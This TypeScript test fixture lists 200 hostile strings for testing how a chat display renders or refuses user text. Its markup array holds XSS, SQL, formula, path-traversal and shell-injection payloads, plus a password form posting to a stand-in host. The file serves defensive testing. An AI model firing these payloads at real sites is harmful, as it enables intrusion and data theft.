// What somebody may type or send to break a page, to hide something, or to give away a phone number: 200 texts for every place that
// shows what people write. Each is shown as text or refused.

const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">Photos</a>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '</title><style>*{display:none}</style>',
  '<style>body{visibility:hidden}</style>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<form action="https://evil.test"><input name=password></form>',
  '<marquee>Copper</marquee>',
  '<!-- hidden',
  ']]><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '[[constructor.constructor("alert(1)")()]]',
  '{"__proto__":{"isAdmin":true}}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  "'; drop table chat_messages; --",
  "' or 1=1 --",
  '1; select pg_sleep(10)',
  '=cmd|"/c calc"!A1',
  '+HYPERLINK("https://evil.test")',
  '@SUM(1+1)',
  '../../etc/passwd',
  'file:///etc/passwd',
  '%00%0d%0aSet-Cookie: a=b',
  'Line\r\nSet-Cookie: a=b',
  '`rm -rf /`',
  '$(reboot)',
  '**bold** _italic_ [link](javascript:alert(1))',
  '![photo](https://evil.test/x.png)',
]

const direction = [
  '\u202eevil txt.exe',
  '\u202dabc\u202e def',
  '\u2066\u2067\u2068 never closed',
  '\u200f\u200e\u061c marks',
  '\u202e'.repeat(50),
  'Total £100\u202e00,5',
  'مرحبا بالعالم',
  'שלום עולם',
  'English and עברית and العربية in one line',
  '\u2069\u2069\u2069 closed too often',
]

const marks = [
  'Z\u0351\u0344\u034b\u0310\u035b\u0301a\u0321\u0340\u0341l\u0340\u0341g\u0340o\u0321',
  `H${'\u0301'.repeat(200)}i`,
  '\u0e49'.repeat(100),
  '\u0489'.repeat(60),
  'e\u0301 and é',
  'ﬁ ﬂ ﬀ',
  '\ufeffbyte order mark',
  'zero\u200bwidth\u200bspaces',
  'joined\u2060words\u2060here',
  'soft\u00adhyphens\u00adhere',
]

const emoji = [
  '👨‍👩‍👧‍👦'.repeat(30),
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿🏴󠁧󠁢󠁳󠁣󠁴󠁿🏴󠁧󠁢󠁷󠁬󠁳󠁿',
  '👩🏽‍🚒👨🏿‍🔧🧑🏻‍🏭',
  '🇬🇧🇮🇪🇫🇷',
  '\u200d'.repeat(40),
  '😀\u200d\u200d\u200d😀',
  '❤️‍🔥',
  '☠︎',
  '1️⃣2️⃣3️⃣',
  '𝕳𝖊𝖆𝖛𝖞 𝕮𝖔𝖕𝖕𝖊𝖗',
]

const long = [
  'a'.repeat(4_000),
  'W'.repeat(390),
  'copper '.repeat(550),
  'x'.repeat(64 * 1024),
  '\n'.repeat(3_000),
  'one\n'.repeat(900),
  ' '.repeat(2_000),
  `${'-'.repeat(1_000)}>`,
  '🔩'.repeat(1_000),
  'https://example.test/'.padEnd(2_000, 'a'),
  '漢'.repeat(1_500),
  '((((((((((('.repeat(100),
  'a.'.repeat(2_000),
  'a@'.repeat(2_000),
  '0 '.repeat(2_000),
]

const nothing = ['', ' ', '\n\n', '\u200b', '\u00a0', '\u3000', '\u2028', '\ufeff', '\u200d', '\u2800']

const control = ['a\u0000b', '\u0007', '\u001b[31mred', '\u0008\u0008', '\u007f', '\u009b31m', 'a\u000bb', 'a\u000cb', '\ud800', 'a\udc00b']

/** In each stands a phone number, an email address or a link. */
export const contactTexts: readonly string[] = [
  '07700 900123',
  '07700900123',
  '(07700) 900-123',
  '+44 7700 900123',
  '+44 (0) 7700 900123',
  '0044 7700 900123',
  '0 7 7 0 0 9 0 0 1 2 3',
  '07700.900.123',
  '07700/900/123',
  '07700\n900\n123',
  '０７７００ ９００１２３',
  'O77OO 9OO123',
  'o7700900123',
  'oh seven seven double oh nine double oh one two three',
  'zero seven seven zero zero nine zero zero one two three',
  'OH SEVEN SEVEN OH OH NINE OH OH ONE TWO THREE',
  'oh seven seven 00 nine 00 one two three',
  'plus four four seven seven double oh nine double oh one two three',
  'oh-seven-seven-oh-oh-nine-oh-oh-one-two-three',
  'nought seven seven nought nought nine nought nought one two three',
  '0161 496 0123',
  '020 7946 0123',
  'Call 7700 900 123',
  'WhatsApp: 7700900123',
  'jo@smithmetals.co.uk',
  'jo @ smithmetals . co . uk',
  'jo(at)smithmetals(dot)com',
  'jo [at] smithmetals [dot] co [dot] uk',
  'jo at smithmetals dot com',
  'jo.smith+scrap@gmail.com',
  'ｊｏ＠ｓｍｉｔｈ．ｃｏｍ',
  'https://smithmetals.co.uk/prices',
  'HTTP://EXAMPLE.TEST',
  'www.smithmetals.co.uk',
  'www . smithmetals . co.uk',
  'smithmetals.co.uk',
  'smithmetals dot com',
  'bit.ly/3xYz',
  'wa.me/447700900123',
  't.me/smithmetals',
]

const mixed = Array.from({ length: 55 }, (_, nth) => {
  const [one, two] = [markup[nth % markup.length], direction[nth % direction.length]]
  return `${one} ${two} ${emoji[nth % emoji.length]} ${marks[(nth * 3) % marks.length]}`
})

/** All 200 of them. */
export const hostileTexts: readonly string[] = [
  ...markup,
  ...direction,
  ...marks,
  ...emoji,
  ...long,
  ...nothing,
  ...control,
  ...contactTexts,
  ...mixed,
]
